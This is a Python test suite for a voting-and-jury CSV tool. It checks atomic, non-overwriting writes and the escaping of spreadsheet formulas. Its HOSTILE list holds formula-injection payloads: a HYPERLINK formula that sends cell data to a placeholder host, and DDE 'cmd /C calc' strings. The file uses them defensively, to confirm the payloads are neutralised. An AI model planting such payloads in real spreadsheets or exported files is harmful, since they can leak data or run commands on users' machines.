"""Every file bosetting writes: atomic, never over an existing file without force, formula-safe."""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bosetting.cli import main
from bosetting.data import (
    FORMULA_PREFIXES,
    csv_bytes,
    neutralise_cell,
    read_csv_text,
    write_csv,
    write_user_bytes,
)
from bosetting.errors import WriteError
from bosetting.i18n import language
from bosetting.jury import read_jury_sheet
from bosetting.practice import write_ballots_csv, write_jury_csv, write_practice
from bosetting.voting import Ballot, read_ballots
from tests.helpers import BODO, KINN

NOMS = [KINN, BODO]

#: Cells a spreadsheet would run, as the issue found them written out verbatim.
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"klikk")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.reader(f))


def test_ballot_file_neutralises_formulas_and_reads_back(tmp_path: Path) -> None:
    ballots = [
        Ballot(c, voter=f"=v{i}", timestamp="@2022", label="+x") for i, c in enumerate(HOSTILE)
    ]
    path = write_ballots_csv(tmp_path / "stemmer.csv", [*ballots, Ballot("Kinn", voter="a")])
    rows = _cells(path)[1:]
    for row in rows:
        assert not any(cell.startswith(FORMULA_PREFIXES) for cell in row), row
    assert [r[0] for r in rows] == ["'" + c for c in HOSTILE] + ["Kinn"]
    back = read_ballots(path)
    assert [b.choice for b in back] == ["'" + c for c in HOSTILE] + ["Kinn"]
    assert back[0].voter == "'=v0"
    assert back[0].timestamp == "'@2022"
    assert back[-1].voter == "a"


def test_jury_file_neutralises_formulas_and_reads_back(tmp_path: Path) -> None:
    records = [
        {"juror": "=HYPERLINK(1)", "nominee": "Kinn", "criterion": "@crit", "score": 5},
        {"juror": "B", "nominee": "Bodø", "criterion": "-x", "score": 3, "label": "ØVINGSDATA"},
    ]
    path = write_jury_csv(tmp_path / "jury.csv", records)
    assert [r[0] for r in _cells(path)] == ["jurymedlem", "'=HYPERLINK(1)", "B"]
    jury = read_jury_sheet(path, NOMS)
    assert set(jury.jurors) == {"'=HYPERLINK(1)", "B"}
    assert set(jury.criteria) == {"'@crit", "'-x"}


@given(
    st.lists(
        st.text(
            st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00"), max_size=12
        ),
        min_size=1,
        max_size=4,
    )
)
def test_any_cell_round_trips_with_the_prefix_only(cells: list[str]) -> None:
    data = csv_bytes(["a", "b", "c", "d"][: len(cells)], [cells])
    text = read_csv_text_bytes(data)
    assert text.rows == [[neutralise_cell(c) for c in cells]]
    for cell, back in zip(cells, text.rows[0], strict=True):
        assert back == ("'" + cell if cell.startswith(FORMULA_PREFIXES) else cell)


def read_csv_text_bytes(data: bytes):  # type: ignore[no-untyped-def]
    from bosetting.data import decode_csv_bytes

    return decode_csv_bytes(data, "x.csv")


def test_never_overwrites_without_force(tmp_path: Path) -> None:
    target = tmp_path / "stemmer.csv"
    target.write_text("mine\n", encoding="utf-8")
    with pytest.raises(WriteError, match=r"stemmer.csv: the file exists already; pass force=True"):
        write_ballots_csv(target, [Ballot("Kinn")])
    assert target.read_text(encoding="utf-8") == "mine\n"
    write_ballots_csv(target, [Ballot("Kinn")], force=True)
    assert read_ballots(target)[0].choice == "Kinn"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["stemmer.csv"]


def test_write_practice_refuses_before_writing_either(tmp_path: Path) -> None:
    votes, jury = write_practice(NOMS, tmp_path, seed=1, n=20)
    jury.unlink()
    before = votes.read_bytes()
    with pytest.raises(WriteError, match="exists already"):
        write_practice(NOMS, tmp_path, seed=2, n=20)
    assert votes.read_bytes() == before
    assert not jury.exists()
    write_practice(NOMS, tmp_path, seed=2, n=20, force=True)
    assert votes.read_bytes() != before
    assert jury.exists()


def test_write_practice_into_a_file(tmp_path: Path) -> None:
    (tmp_path / "ut").write_text("x", encoding="utf-8")
    with pytest.raises(WriteError, match="ut: is a file, not a folder"):
        write_practice(NOMS, tmp_path / "ut", seed=1, n=5)
    with pytest.raises(WriteError, match="a part of the path is a file"):
        write_practice(NOMS, tmp_path / "ut" / "inner", seed=1, n=5)


def test_target_is_a_folder(tmp_path: Path) -> None:
    with pytest.raises(WriteError, match="is a folder"):
        write_user_bytes(tmp_path, b"x", force=True)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes here")
def test_target_is_a_pipe_even_with_force(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    with pytest.raises(WriteError, match="not a regular file"):
        write_user_bytes(fifo, b"x", force=True)


def test_target_is_a_link_even_with_force(tmp_path: Path) -> None:
    real = tmp_path / "real.csv"
    real.write_text("keep", encoding="utf-8")
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    with pytest.raises(WriteError, match="not a regular file"):
        write_user_bytes(link, b"x", force=True)
    assert real.read_text(encoding="utf-8") == "keep"


def test_missing_folder(tmp_path: Path) -> None:
    with pytest.raises(WriteError, match="the folder does not exist"):
        write_user_bytes(tmp_path / "nope" / "x.csv", b"x")


def _read_only(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder nobody may write in (as root, permissions do not stop us: simulate it)."""
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o555)
    if os.geteuid() == 0:
        import tempfile

        real = tempfile.mkstemp

        def refuse(*args: object, **kwargs: object) -> tuple[int, str]:
            if Path(str(kwargs.get("dir"))) == folder:
                raise PermissionError(13, "Permission denied")
            return real(*args, **kwargs)  # type: ignore[call-overload, no-any-return]

        monkeypatch.setattr(tempfile, "mkstemp", refuse)
    return folder


def test_read_only_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = _read_only(tmp_path, monkeypatch)
    try:
        with pytest.raises(WriteError, match="no permission to write in the folder"):
            write_ballots_csv(folder / "x.csv", [Ballot("Kinn")])
        assert list(folder.iterdir()) == []
    finally:
        folder.chmod(0o755)


def test_practice_command_read_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = _read_only(tmp_path, monkeypatch)
    try:
        status = main(["practice", "--edition", "2022", "--out", str(folder), "--seed", "1"])
    finally:
        folder.chmod(0o755)
    err = capsys.readouterr().err
    assert status == 2
    assert len(err.splitlines()) == 1
    assert "no permission to write" in err


def test_failed_write_leaves_no_temporary_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(*args: object, **kwargs: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "link", full)
    monkeypatch.setattr(os, "replace", full)
    with pytest.raises(WriteError, match="the disk is full") as info:
        write_csv(tmp_path / "x.csv", ["a"], [["1"]])
    assert list(tmp_path.iterdir()) == []
    with language("nb"):  # the system's reason in the language too, not its English text
        assert str(info.value).endswith("kan ikke skrive filen: disken er full")


def test_a_written_file_has_an_ordinary_mode(tmp_path: Path) -> None:
    mask = os.umask(0o022)
    try:
        path = write_csv(tmp_path / "x.csv", ["a"], [["1"]])
    finally:
        os.umask(mask)
    assert path.stat().st_mode & 0o777 == 0o644  # readable by the workshop, like open(..., "w")


def test_a_failing_row_source_writes_nothing(tmp_path: Path) -> None:
    def rows():  # type: ignore[no-untyped-def]
        yield ["1"]
        raise RuntimeError("boom")

    with pytest.raises(RuntimeError):
        write_csv(tmp_path / "x.csv", ["a"], rows())
    assert list(tmp_path.iterdir()) == []


def test_lone_surrogate_is_a_write_error(tmp_path: Path) -> None:
    with pytest.raises(WriteError, match="UTF-8 cannot store"):
        write_ballots_csv(tmp_path / "x.csv", [Ballot("Kinn\ud800")])
    assert list(tmp_path.iterdir()) == []


def test_written_csv_is_excel_friendly(tmp_path: Path) -> None:
    path = write_ballots_csv(tmp_path / "x.csv", [Ballot("Bodø", voter="a;b")])
    raw = path.read_bytes()
    assert raw.startswith(b'"valg","velger","tidspunkt","label"\r\n')
    assert '"Bodø","a;b","",""\r\n'.encode() in raw
    assert read_csv_text(path).rows == [["Bodø", "a;b", "", ""]]
    assert list(csv.reader(io.StringIO(raw.decode("utf-8"), newline="")))[1][1] == "a;b"


def _fail_second_placement(monkeypatch: pytest.MonkeyPatch) -> None:
    """The disk fills up as the second file is moved into place."""
    import errno

    real_link, real_replace = os.link, os.replace
    calls = {"n": 0}

    def placing(real):  # type: ignore[no-untyped-def]
        def fake(src, dst, *args, **kwargs):  # type: ignore[no-untyped-def]
            if str(src).endswith(".tmp"):
                calls["n"] += 1
                if calls["n"] == 2:
                    raise OSError(errno.ENOSPC, "No space left on device")
            return real(src, dst, *args, **kwargs)

        return fake

    monkeypatch.setattr(os, "link", placing(real_link))
    monkeypatch.setattr(os, "replace", placing(real_replace))


def test_practice_files_are_written_all_or_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import bosetting as bs

    out = tmp_path / "ut"
    with monkeypatch.context() as m:
        _fail_second_placement(m)
        with pytest.raises(WriteError, match="the disk is full") as info:
            write_practice(bs.edition(2022), out, seed=1, n=10)
    assert info.value.file is not None
    assert info.value.file.endswith("ovingsdata-jury.csv")
    assert sorted(p.name for p in out.iterdir()) == []  # no first file, no temporary file
    files = write_practice(bs.edition(2022), out, seed=1, n=10)  # the rerun is not refused
    assert files.votes is not None
    assert files.votes.exists()
    assert files.jury.exists()


def test_a_failed_forced_rewrite_keeps_the_old_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import bosetting as bs

    out = tmp_path / "ut"
    first = write_practice(bs.edition(2022), out, seed=1, n=10)
    assert first.votes is not None
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    with monkeypatch.context() as m:
        _fail_second_placement(m)
        with pytest.raises(WriteError):
            write_practice(bs.edition(2022), out, seed=2, n=20, force=True)
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before


def test_the_command_says_one_line_for_a_full_disk(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    _fail_second_placement(monkeypatch)
    argv = ["practice", "--edition", "2022", "--out", str(tmp_path / "ut"), "--seed", "1"]
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert len(err.splitlines()) == 1
    assert "cannot write the file: the disk is full" in err
    assert not list((tmp_path / "ut").iterdir())
